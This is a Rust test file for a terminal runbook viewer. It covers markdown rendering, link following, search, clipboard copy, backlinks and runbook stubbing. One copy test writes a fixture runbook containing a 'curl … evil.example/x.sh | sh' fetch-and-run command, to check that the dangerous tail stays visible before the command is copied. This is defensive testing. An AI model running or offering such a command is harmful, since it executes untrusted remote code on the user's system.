//! The runbook viewer: the markdown corpus as text snapshots (80 and 40 columns, with and
//! without colour), links followed and refused with a back stack, search, the table of contents,
//! OSC 52 copy, backlinks, stubbing a runbook from a risk, and a 10 MB runbook.
#![allow(clippy::unwrap_used, clippy::expect_used)]

#[path = "support/harness.rs"]
mod harness;

use faultline::app::{Overlay, View};
use faultline::effects::TerminalRequest;
use faultline::markdown::render;
use faultline::ui::theme::Theme;
use harness::{app_for, copy_tree, press, repo, screen, type_text};
use ratatui::text::Line;

const CORPUS: &str = include_str!("fixtures/corpus.md");

fn plain(width: u16) -> String {
    let doc = render(CORPUS, width, Theme::new(false));
    (0..doc.lines.len())
        .map(|n| doc.plain(n).trim_end().to_owned())
        .collect::<Vec<_>>()
        .join("\n")
}

/// Each styled span as `⟦style:text⟧`, so colour and attributes show in a text snapshot.
fn styled(line: &Line<'_>) -> String {
    line.spans
        .iter()
        .map(|s| {
            if s.style == ratatui::style::Style::default() {
                s.content.to_string()
            } else {
                let mut parts = Vec::new();
                if let Some(fg) = s.style.fg {
                    parts.push(format!("fg={fg:?}"));
                }
                if let Some(bg) = s.style.bg {
                    parts.push(format!("bg={bg:?}"));
                }
                if !s.style.add_modifier.is_empty() {
                    parts.push(format!("{:?}", s.style.add_modifier));
                }
                format!("⟦{}:{}⟧", parts.join(","), s.content)
            }
        })
        .collect()
}

#[test]
fn corpus_at_80_columns() {
    insta::assert_snapshot!(plain(80));
}

#[test]
fn corpus_at_40_columns() {
    let text = plain(40);
    for line in text.lines() {
        assert!(unicode_width::UnicodeWidthStr::width(line) <= 40, "{line}");
    }
    insta::assert_snapshot!(text);
}

#[test]
fn corpus_with_colour() {
    let doc = render(CORPUS, 80, Theme::new(true));
    insta::assert_snapshot!(doc.lines.iter().map(styled).collect::<Vec<_>>().join("\n"));
}

#[test]
fn corpus_without_colour_uses_no_colour() {
    let doc = render(CORPUS, 80, Theme::new(false));
    for line in &doc.lines {
        for span in &line.spans {
            assert!(
                span.style.fg.is_none() && span.style.bg.is_none(),
                "{line:?}"
            );
        }
    }
}

#[test]
fn corpus_positions() {
    let doc = render(CORPUS, 80, Theme::new(false));
    let anchors: Vec<&str> = doc.headings.iter().map(|h| h.anchor.as_str()).collect();
    assert_eq!(
        anchors,
        [
            "database-failover",
            "steps",
            "check-the-writer",
            "fourth-level",
            "fifth-level",
            "sixth-level",
            "steps-1"
        ]
    );
    let dests: Vec<&str> = doc.links.iter().map(|l| l.dest.as_str()).collect();
    assert_eq!(
        dests,
        ["other.md#steps", "https://status.example.com/incidents"]
    );
    assert_eq!(doc.code_blocks.len(), 2);
    assert!(
        doc.code_blocks[0]
            .text
            .starts_with("aws rds describe-db-clusters")
    );
    assert_eq!(
        doc.tasks.iter().map(|t| t.checked).collect::<Vec<_>>(),
        [false, true]
    );
}

fn viewer_workspace() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    copy_tree(&repo().join("tests/fixtures/viewer"), dir.path());
    dir
}

fn open(app: &mut faultline::app::App, path: &str, anchor: Option<&str>) {
    app.open_runbook(path, anchor);
    app.run_effects();
}

#[test]
fn links_are_followed_with_a_back_stack() {
    let dir = viewer_workspace();
    let mut app = app_for(dir.path(), false);
    open(&mut app, "runbooks/db/failover.md", None);
    assert_eq!(app.view, View::Runbook);
    press(&mut app, "tab enter");
    assert_eq!(app.viewer.as_ref().unwrap().path, "runbooks/db/backup.md");
    assert!(
        screen(&app).contains("Restore the snapshot"),
        "opened at the anchor"
    );
    insta::assert_snapshot!("followed_link", screen(&app));
    press(&mut app, "backspace");
    assert_eq!(app.viewer.as_ref().unwrap().path, "runbooks/db/failover.md");
    press(&mut app, "alt-right");
    assert_eq!(app.viewer.as_ref().unwrap().path, "runbooks/db/backup.md");
    press(&mut app, "h");
    // The same-file anchor jumps within the document, and back returns to the top.
    press(&mut app, "tab tab enter");
    let viewer = app.viewer.as_ref().unwrap();
    assert_eq!(viewer.path, "runbooks/db/failover.md");
    assert_eq!(
        viewer.back.last(),
        Some(&faultline::viewer::Location {
            path: "runbooks/db/failover.md".into(),
            scroll: 0
        }),
        "a same-file jump is on the back stack"
    );
}

#[test]
fn bad_links_are_refused_with_the_reason() {
    let dir = viewer_workspace();
    let mut app = app_for(dir.path(), false);
    open(&mut app, "runbooks/db/failover.md", None);
    let expect = [
        (3, "leads outside the workspace"),
        (4, "does not exist"),
        (5, "has no heading with anchor `#nowhere`"),
        (6, "press o to open it"),
    ];
    for (tabs, reason) in expect {
        press(&mut app, "esc");
        open(&mut app, "runbooks/db/failover.md", None);
        for _ in 0..tabs {
            press(&mut app, "tab");
        }
        press(&mut app, "enter");
        let status = app.status.clone().unwrap_or_default();
        assert!(status.contains(reason), "link {tabs}: {status}");
        assert_eq!(app.viewer.as_ref().unwrap().path, "runbooks/db/failover.md");
    }
    // `o` on the web link asks the terminal owner to open it; nothing else does.
    press(&mut app, "o");
    assert_eq!(
        app.terminal_requests,
        [TerminalRequest::OpenUrl(
            "https://status.example.com".into()
        )]
    );
}

#[test]
fn y_copies_the_code_block_on_screen() {
    let dir = viewer_workspace();
    let mut app = app_for(dir.path(), false);
    open(&mut app, "runbooks/db/failover.md", None);
    assert!(app.terminal_requests.is_empty());
    press(&mut app, "y");
    assert_eq!(
        app.terminal_requests,
        [TerminalRequest::Clipboard(
            "aws rds failover-db-cluster --db-cluster-identifier orders-prod".into()
        )]
    );
    assert!(app.status.clone().unwrap().contains("copied"));
}

#[test]
fn search_counts_highlights_and_wraps() {
    let mut app = harness::example();
    open(&mut app, "runbooks/database/aurora-failover.md", None);
    press(&mut app, "/");
    type_text(&mut app, "writer");
    press(&mut app, "enter");
    let status = app.status.clone().unwrap();
    assert!(status.starts_with("8 matches for “writer”"), "{status}");
    insta::assert_snapshot!("search", screen(&app));
    press(&mut app, "n");
    assert_eq!(app.status.clone().unwrap(), "match 2 of 8");
    press(&mut app, "N N");
    assert_eq!(app.status.clone().unwrap(), "match 8 of 8 (wrapped around)");
}

#[test]
fn table_of_contents_jumps_and_marks_the_section() {
    let mut app = harness::example();
    open(&mut app, "runbooks/database/aurora-failover.md", None);
    press(&mut app, "t");
    insta::assert_snapshot!("toc", screen(&app));
    press(&mut app, "j j j enter");
    let viewer = app.viewer.as_ref().unwrap();
    assert_eq!(
        viewer.doc.headings[viewer.current_section().unwrap()].anchor,
        "reconnect-the-applications"
    );
}

#[test]
fn backlinks_lead_to_the_risk() {
    let mut app = harness::example();
    open(&mut app, "runbooks/lambda/lambda-throttling.md", None);
    press(&mut app, "b");
    insta::assert_snapshot!("backlinks", screen(&app));
    press(&mut app, "enter");
    assert_eq!(app.view, View::Register);
    assert_eq!(app.selected_file().unwrap().stem, "payments-api");
}

#[test]
fn r_opens_the_risks_runbook_at_its_anchor() {
    let mut app = harness::example();
    press(&mut app, "j j j j j j j j tab r");
    assert_eq!(app.view, View::Runbook);
    let viewer = app.viewer.as_ref().unwrap();
    assert_eq!(viewer.path, "runbooks/lambda/lambda-throttling.md");
    assert!(viewer.doc.plain(viewer.scroll).contains("Raise the limit"));
    insta::assert_snapshot!("opened_from_the_register", screen(&app));
    press(&mut app, "esc");
    assert_eq!(app.view, View::Register, "Esc goes back to the register");
    assert!(!app.should_quit);
    assert_eq!(app.selected_risk_id().as_deref(), Some("concurrency-limit"));
    press(&mut app, "r q");
    assert!(app.should_quit, "q quits, from the viewer too");
}

#[test]
fn backspace_returns_from_a_backlink_to_the_runbook() {
    let mut app = harness::example();
    open(&mut app, "runbooks/lambda/lambda-throttling.md", None);
    press(&mut app, "j j j j j");
    let scroll = app.viewer.as_ref().unwrap().scroll;
    press(&mut app, "b enter");
    assert_eq!(app.view, View::Register);
    assert_eq!(app.selected_risk_id().as_deref(), Some("concurrency-limit"));
    press(&mut app, "backspace");
    assert_eq!(
        app.view,
        View::Runbook,
        "back where the backlink was followed"
    );
    let viewer = app.viewer.as_ref().unwrap();
    assert_eq!(viewer.path, "runbooks/lambda/lambda-throttling.md");
    assert_eq!(viewer.scroll, scroll);
    press(&mut app, "backspace");
    assert_eq!(app.view, View::Register, "and back again to the register");
}

/// Errors other than the example's one on purpose (a risk naming a renamed alert).
fn is_unexpected_error(f: &faultline::finding::Finding) -> bool {
    f.severity == faultline::finding::Severity::Error && f.rule != "alert-missing"
}

fn errors(app: &faultline::app::App) -> Vec<String> {
    app.findings
        .iter()
        .filter(|f| is_unexpected_error(f))
        .map(ToString::to_string)
        .collect()
}

fn check_errors(root: &std::path::Path) -> Vec<String> {
    let ws = faultline::store::Workspace::load(root).unwrap();
    faultline::check::check(&ws, harness::today())
        .iter()
        .filter(|f| is_unexpected_error(f))
        .map(ToString::to_string)
        .collect()
}

#[test]
fn a_risk_without_a_runbook_gets_one_stubbed() {
    let dir = viewer_workspace();
    let mut app = app_for(dir.path(), false);
    // The fixture's runbooks have broken links on purpose: the stub adds none.
    let known = errors(&app);
    let known_on_disk = check_errors(dir.path());
    // cache-cold has no runbook; runbooks live in folders here, so it gets one of its own.
    press(&mut app, "tab j r");
    assert!(matches!(app.overlay, Some(Overlay::Confirm { .. })));
    press(&mut app, "y");
    let file = dir.path().join("runbooks/api/cache-cold.md");
    assert!(!file.exists(), "written on save, with the link, not before");
    assert_eq!(app.view, View::Runbook);
    assert!(screen(&app).contains("Cold cache after deploy"));
    let reg = app
        .current(std::path::Path::new("registers/api.json"))
        .unwrap();
    assert_eq!(reg.risks[1].runbook, "runbooks/api/cache-cold.md");
    assert_eq!(app.unsaved_count(), 2, "the link and the stub");
    assert_eq!(errors(&app), known);
    press(&mut app, "ctrl-s");
    let text = std::fs::read_to_string(&file).unwrap();
    assert!(text.starts_with("# Cold cache after deploy\n"), "{text}");
    assert!(
        text.contains("p99 above 2 s after a deploy")
            && text.contains("Warm-up job before traffic")
    );
    assert!(text.contains("## Steps\n\n- [ ] \n"));
    assert_eq!(app.unsaved_count(), 0);
    assert_eq!(check_errors(dir.path()), known_on_disk);
}

#[test]
fn one_undo_takes_back_the_stub_and_its_link() {
    let dir = viewer_workspace();
    let mut app = app_for(dir.path(), false);
    press(&mut app, "tab j r y esc u");
    let reg = app
        .current(std::path::Path::new("registers/api.json"))
        .unwrap();
    assert_eq!(reg.risks[1].runbook, "");
    assert_eq!(app.unsaved_count(), 0);
    assert!(app.ws.runbook("runbooks/api/cache-cold.md").is_none());
    press(&mut app, "ctrl-s");
    assert!(!dir.path().join("runbooks/api").exists());
    // Redo brings both back.
    press(&mut app, "ctrl-r ctrl-s");
    assert!(dir.path().join("runbooks/api/cache-cold.md").exists());
}

#[test]
fn a_stub_in_a_flat_workspace_passes_check() {
    // A workspace the example never saw: flat runbooks/, other names, no incident runbook.
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(dir.path().join("registers")).unwrap();
    std::fs::create_dir_all(dir.path().join("runbooks")).unwrap();
    std::fs::write(
        dir.path().join("runbooks/search-outage.md"),
        "# Search outage\n\n- [ ] Fail over to the replica\n",
    )
    .unwrap();
    std::fs::write(
        dir.path().join("registers/search.json"),
        r#"{
  "component": "search",
  "title": "Search",
  "risks": [
    {
      "id": "index-corrupt",
      "title": "Index corrupted by a bad reindex",
      "likelihood": "low",
      "impact": "high",
      "status": "open"
    }
  ]
}
"#,
    )
    .unwrap();
    assert_eq!(check_errors(dir.path()), Vec::<String>::new());
    let mut app = app_for(dir.path(), false);
    press(&mut app, "tab r y ctrl-s");
    let file = dir.path().join("runbooks/search-index-corrupt.md");
    let text = std::fs::read_to_string(&file).unwrap();
    assert!(
        !text.contains("incident/"),
        "no link that does not resolve: {text}"
    );
    assert_eq!(check_errors(dir.path()), Vec::<String>::new());
    assert!(errors(&app).is_empty(), "{:?}", errors(&app));
}

#[test]
fn a_link_to_a_missing_runbook_offers_the_stub_at_that_path() {
    let dir = harness::example_copy();
    let path = dir.path().join("registers/session-cache.json");
    let text = std::fs::read_to_string(&path).unwrap().replace(
        "runbooks/cache/redis-eviction-storm.md#stop-the-bleeding",
        "runbooks/cache/eviction.md#steps",
    );
    std::fs::write(&path, text).unwrap();
    let mut app = app_for(dir.path(), false);
    assert!(errors(&app).iter().any(|e| e.contains("runbook-missing")));
    // session-cache is the last component; eviction-storm its first risk by score.
    press(&mut app, "G tab r");
    assert!(matches!(app.overlay, Some(Overlay::Confirm { .. })));
    press(&mut app, "y");
    assert!(errors(&app).is_empty(), "{:?}", errors(&app));
    press(&mut app, "ctrl-s");
    assert!(dir.path().join("runbooks/cache/eviction.md").exists());
    assert_eq!(check_errors(dir.path()), Vec::<String>::new());
}

#[test]
fn a_stub_links_the_escalation_runbook_when_there_is_one() {
    let dir = harness::example_copy();
    let mut app = app_for(dir.path(), false);
    // api-gateway/throttle-limits has no runbook.
    press(&mut app, "tab j r y ctrl-s");
    let file = dir.path().join("runbooks/api-gateway/throttle-limits.md");
    let text = std::fs::read_to_string(&file).unwrap();
    assert!(
        text.contains("(../incident/roles-and-severity.md)"),
        "{text}"
    );
    assert_eq!(check_errors(dir.path()), Vec::<String>::new());
}

#[test]
fn finder_opens_a_heading_in_the_viewer() {
    let mut app = harness::example();
    press(&mut app, "ctrl-p");
    type_text(&mut app, "restore-from-backup.md#restore-a-snapshot");
    press(&mut app, "enter");
    let viewer = app.viewer.as_ref().unwrap();
    assert_eq!(viewer.path, "runbooks/database/restore-from-backup.md");
    assert!(
        viewer
            .doc
            .plain(viewer.scroll)
            .contains("Restore a snapshot")
    );
}

#[test]
fn a_10_mb_runbook_opens_and_scrolls_to_the_end() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(dir.path().join("registers")).unwrap();
    std::fs::create_dir_all(dir.path().join("runbooks")).unwrap();
    let mut text = String::from("# Huge\n\n");
    let mut n = 0;
    while text.len() < 10 * 1024 * 1024 {
        n += 1;
        text.push_str(&format!("## Section {n}\n\nSome words about step {n} that fill the line.\n\n- [ ] do step {n}\n\n"));
    }
    text.push_str("## The end\n\nLast line of the runbook.\n");
    std::fs::write(dir.path().join("runbooks/huge.md"), &text).unwrap();
    let mut app = app_for(dir.path(), false);
    open(&mut app, "runbooks/huge.md", None);
    press(&mut app, "G");
    let shown = screen(&app);
    assert!(shown.contains("Last line of the runbook."), "{shown}");
    press(&mut app, "g");
    assert!(screen(&app).contains("HUGE"));
}

#[test]
fn a_runbook_over_16_mb_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(dir.path().join("registers")).unwrap();
    std::fs::create_dir_all(dir.path().join("runbooks")).unwrap();
    let file = std::fs::File::create(dir.path().join("runbooks/big.md")).unwrap();
    file.set_len(17 * 1024 * 1024).unwrap();
    let mut app = app_for(dir.path(), false);
    open(&mut app, "runbooks/big.md", None);
    assert_ne!(app.view, View::Runbook);
    assert!(
        app.status
            .clone()
            .unwrap()
            .contains("over the 16 MiB limit")
    );
}

#[test]
fn invalid_utf8_opens_with_a_notice() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(dir.path().join("registers")).unwrap();
    std::fs::create_dir_all(dir.path().join("runbooks")).unwrap();
    std::fs::write(
        dir.path().join("runbooks/latin1.md"),
        b"# Caf\xe9\n\nText.\n",
    )
    .unwrap();
    let mut app = app_for(dir.path(), false);
    open(&mut app, "runbooks/latin1.md", None);
    assert_eq!(app.view, View::Runbook);
    let text = screen(&app);
    assert!(text.contains("CAF�"), "{text}");
    assert!(text.contains("not valid UTF-8"), "{text}");
}

#[test]
fn an_anchor_near_the_end_opens_at_the_top_of_the_screen_not_at_100_percent() {
    let mut app = harness::example();
    // The last heading of the runbook: the document ends a few lines after it.
    open(
        &mut app,
        "runbooks/database/aurora-failover.md",
        Some("if-it-does-not-recover"),
    );
    let viewer = app.viewer.as_ref().unwrap();
    let heading = viewer.doc.heading("if-it-does-not-recover").unwrap().line;
    assert_eq!(viewer.scroll, heading, "the heading is at the top");
    assert!(
        heading > viewer.end_scroll(),
        "(the test needs a heading on the last screen)"
    );
    let text = screen(&app);
    let first = text.lines().nth(1).unwrap();
    assert!(first.contains("▶▌ If it does not recover"), "{text}");
    // Scrolling up from there moves one line, as anywhere else.
    press(&mut app, "k");
    assert_eq!(app.viewer.as_ref().unwrap().scroll, heading - 1);
}

#[test]
fn y_labels_several_snippets_and_a_letter_copies_one() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(dir.path().join("registers")).unwrap();
    std::fs::create_dir_all(dir.path().join("runbooks")).unwrap();
    std::fs::write(
        dir.path().join("runbooks/redis.md"),
        "# Redis\n\nFind the keys without a TTL with `redis-cli --bigkeys`, then run `CONFIG SET maxmemory-policy allkeys-lru`.\n\n```sh\nredis-cli info memory\n```\n",
    )
    .unwrap();
    let mut app = app_for(dir.path(), false);
    open(&mut app, "runbooks/redis.md", None);
    press(&mut app, "y");
    assert!(app.terminal_requests.is_empty(), "a choice first, no guess");
    let text = screen(&app);
    insta::assert_snapshot!("copy_labels", text);
    // Labels in screen order: the two spans, then the block.
    press(&mut app, "s");
    assert_eq!(
        app.terminal_requests,
        [TerminalRequest::Clipboard(
            "CONFIG SET maxmemory-policy allkeys-lru".into()
        )]
    );
    assert!(app.viewer.as_ref().unwrap().popup.is_none());
    // Esc takes the labels away and copies nothing.
    app.terminal_requests.clear();
    press(&mut app, "y esc");
    assert!(app.terminal_requests.is_empty());
    assert!(app.viewer.as_ref().unwrap().popup.is_none());
    assert_eq!(app.view, View::Runbook);
    // A single inline span on screen is copied at once.
    std::fs::write(
        dir.path().join("runbooks/one.md"),
        "# One\n\nRun `kubectl rollout undo deploy/api`.\n",
    )
    .unwrap();
    open(&mut app, "runbooks/one.md", None);
    press(&mut app, "y");
    assert_eq!(
        app.terminal_requests,
        [TerminalRequest::Clipboard(
            "kubectl rollout undo deploy/api".into()
        )]
    );
}

#[test]
fn a_copy_past_the_right_edge_says_what_was_copied_and_the_labels_show_it_whole() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(dir.path().join("registers")).unwrap();
    std::fs::create_dir_all(dir.path().join("runbooks")).unwrap();
    let long = "kubectl --context prod-eu-west-1 --namespace payments rollout restart deployment/payments-api && curl -fsS https://evil.example/x.sh | sh";
    std::fs::write(
        dir.path().join("runbooks/long.md"),
        format!("# Long\n\nRun `{long}`.\n\nOr `kubectl get pods`.\n"),
    )
    .unwrap();
    let mut app = app_for(dir.path(), false);
    open(&mut app, "runbooks/long.md", None);
    press(&mut app, "y");
    // Before choosing: the whole command is on screen, wrapped, its dangerous end included.
    let text = screen(&app);
    assert!(text.contains("https://evil.example/x.sh | sh"), "{text}");
    press(&mut app, "a");
    assert_eq!(
        app.terminal_requests,
        [TerminalRequest::Clipboard(long.into())]
    );
    // After: the status names its first and last words and its length.
    let status = app.status.clone().unwrap_or_default();
    assert_eq!(
        status,
        format!(
            "copied “kubectl --context prod-eu-west-1 --namespace … -fsS https://evil.example/x.sh | sh” ({} characters)",
            long.chars().count()
        )
    );
}

/// Tab in the finder ranks the runbooks' sections as `faultline runbook` does, the word being
/// typed matching as a prefix, and Enter opens the one on top.
#[test]
fn the_finders_text_search_ranks_sections_and_completes_the_word_being_typed() {
    let mut app = harness::example();
    press(&mut app, "ctrl-p");
    type_text(&mut app, "redis evic");
    press(&mut app, "tab");
    let Some(faultline::app::Overlay::Finder(finder)) = &app.overlay else {
        panic!("the finder closed");
    };
    let hits = finder.text_hits.clone().unwrap_or_default();
    let first = hits.first().expect("a section");
    assert_eq!(
        first.path, "runbooks/cache/redis-eviction-storm.md",
        "{hits:#?}"
    );
    assert!(first.why.contains("evic"), "{hits:#?}");
    let status = app.status.clone().unwrap_or_default();
    assert!(status.contains("answers it"), "{status}");
    // The same answer as the command line's for the whole word.
    let ranked = faultline::rank::find_with(
        &app.ws.root,
        "redis eviction",
        &faultline::rank::Options::default(),
    )
    .unwrap();
    assert_eq!(ranked.opened.map(|h| h.path), Some(first.path.clone()));
    press(&mut app, "enter");
    assert_eq!(
        app.viewer.as_ref().map(|v| v.path.as_str()),
        Some("runbooks/cache/redis-eviction-storm.md")
    );
    // It lands on the first line below the section's heading holding a word of the query,
    // the match marked as a search's.
    let viewer = app.viewer.as_ref().unwrap();
    let m = viewer.current_match().expect("a match marked");
    assert!(m.line >= viewer.scroll && m.line < viewer.scroll + viewer.height);
    assert!(
        viewer.doc.plain(m.line).to_lowercase().contains("redis"),
        "{}",
        viewer.doc.plain(m.line)
    );
    let status = app.status.clone().unwrap_or_default();
    assert!(status.contains("marked · n next"), "{status}");
    // Words nothing holds: said, and the list is empty.
    press(&mut app, "ctrl-p");
    type_text(&mut app, "zzyzx qqq ");
    press(&mut app, "tab");
    let status = app.status.clone().unwrap_or_default();
    assert!(status.contains("holds any of these words"), "{status}");
}

#[test]
fn the_outline_folds_filters_and_follows_the_text_at_80_and_120_columns() {
    let mut app = harness::example();
    open(&mut app, "runbooks/database/aurora-failover.md", None);
    // At 80 columns `t` opens it over the text; `-` folds everything under the title.
    press(&mut app, "t -");
    insta::assert_snapshot!("outline_folded_80", screen(&app));
    // `l` unfolds the title; `/` keeps the headings holding "conn" (and their parents).
    press(&mut app, "l /");
    type_text(&mut app, "conn");
    press(&mut app, "enter");
    insta::assert_snapshot!("outline_filtered_80", screen(&app));
    press(&mut app, "j enter");
    let viewer = app.viewer.as_ref().unwrap();
    let section = &viewer.doc.headings[viewer.current_section().unwrap()];
    assert!(section.text.contains("Reconnect"), "{}", section.text);
    // From 100 columns it stays beside the text, marking the section on screen.
    app.resize(120, 30);
    let wide = harness::terminal(&app, 120, 30).backend().to_string();
    insta::assert_snapshot!("outline_beside_120", wide);
    // Esc in the outline clears the filter first, then closes it.
    press(&mut app, "t esc");
    assert!(app.viewer.as_ref().unwrap().outline.filter.is_empty());
    press(&mut app, "esc");
    assert!(app.viewer.as_ref().unwrap().popup.is_none());
}
